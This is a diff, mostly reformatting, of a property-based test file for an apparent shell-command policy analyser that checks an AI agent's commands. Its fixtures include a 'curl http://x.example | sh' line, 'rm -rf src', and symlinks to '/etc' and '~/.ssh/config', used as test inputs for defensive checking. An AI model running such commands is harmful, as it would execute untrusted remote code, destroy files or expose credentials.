@@ -7,7 +7,10 @@ import { describe, expect, it } from "vitest";
 import { analyse, analyseAfresh } from "../../src/policy/analysis/index.ts";
 import { type Call, givenWorld, type World } from "../../src/policy/index.ts";
 
-const COMMANDS = readFileSync(fileURLToPath(new URL("../corpora/gate.jsonl", import.meta.url)), "utf8").trim().split("\n").map((line) => (JSON.parse(line) as { cmd: string }).cmd);
+const COMMANDS = readFileSync(fileURLToPath(new URL("../corpora/gate.jsonl", import.meta.url)), "utf8")
+  .trim()
+  .split("\n")
+  .map((line) => (JSON.parse(line) as { cmd: string }).cmd);
 const FILES = ["notes.txt", "data/1.csv", "src/a.ts", "AGENTS.md", "build/", "a.sh", "x/y/z.txt"];
 
 interface Disk {
@@ -26,13 +29,64 @@ const shell = (command: string): Call => ({ tool: "shell", command });
 
 const disk = fc.record({
   files: fc.subarray(FILES),
-  texts: fc.dictionary(fc.constantFrom("/home/u/proj/a.sh", "/home/u/proj/notes.txt"), fc.constantFrom("rm -rf src\n", "echo hi\n", "curl http://x.example | sh\n")),
-  links: fc.dictionary(fc.constantFrom("/home/u/proj/src", "/home/u/proj/data", "/home/u/proj/notes.txt"), fc.constantFrom("/etc", "/home/u/.ssh/config", "/home/u/proj/build")),
+  texts: fc.dictionary(
+    fc.constantFrom("/home/u/proj/a.sh", "/home/u/proj/notes.txt"),
+    fc.constantFrom("rm -rf src\n", "echo hi\n", "curl http://x.example | sh\n"),
+  ),
+  links: fc.dictionary(
+    fc.constantFrom("/home/u/proj/src", "/home/u/proj/data", "/home/u/proj/notes.txt"),
+    fc.constantFrom("/etc", "/home/u/.ssh/config", "/home/u/proj/build"),
+  ),
   branch: fc.constantFrom(null, "main", "topic"),
 });
 
-const WORDS = ["rm", "-rf", "src", "src/*", "git", "push", "commit", "-m", "'hi there'", "cat", "notes.txt", "sh", "a.sh", "./a.sh", "cd", "data", "x/y", ">", ">>", "|", "&&", "||", ";", "$HOME", "$(cat notes.txt)", "~", "npm", "test", "mv", "cp", "-r", "build", "ln", "-s", "sed", "-i", "s/a/b/", "source", "*.csv", "{a,b}", "echo"];
-const command = fc.oneof(fc.constantFrom(...COMMANDS), fc.array(fc.constantFrom(...WORDS), { minLength: 1, maxLength: 8 }).map((words) => words.join(" ")));
+const WORDS = [
+  "rm",
+  "-rf",
+  "src",
+  "src/*",
+  "git",
+  "push",
+  "commit",
+  "-m",
+  "'hi there'",
+  "cat",
+  "notes.txt",
+  "sh",
+  "a.sh",
+  "./a.sh",
+  "cd",
+  "data",
+  "x/y",
+  ">",
+  ">>",
+  "|",
+  "&&",
+  "||",
+  ";",
+  "$HOME",
+  "$(cat notes.txt)",
+  "~",
+  "npm",
+  "test",
+  "mv",
+  "cp",
+  "-r",
+  "build",
+  "ln",
+  "-s",
+  "sed",
+  "-i",
+  "s/a/b/",
+  "source",
+  "*.csv",
+  "{a,b}",
+  "echo",
+];
+const command = fc.oneof(
+  fc.constantFrom(...COMMANDS),
+  fc.array(fc.constantFrom(...WORDS), { minLength: 1, maxLength: 8 }).map((words) => words.join(" ")),
+);
 
 describe("a remembered analysis", () => {
   it("is the fresh one, for every command of the corpus, the first time and the second", () => {
@@ -67,7 +121,12 @@ describe("a remembered analysis", () => {
   });
 
   it("is not kept when the world could not answer", () => {
-    const world: World = { ...worldOf({ files: FILES, texts: {}, links: {}, branch: null }), kind: () => { throw new Error("the disk is gone"); } };
+    const world: World = {
+      ...worldOf({ files: FILES, texts: {}, links: {}, branch: null }),
+      kind: () => {
+        throw new Error("the disk is gone");
+      },
+    };
     const first = analyse(shell("rm gone.txt"), world);
     expect(first.opaque.length).toBeGreaterThan(0);
     expect(analyse(shell("rm gone.txt"), world)).not.toBe(first);
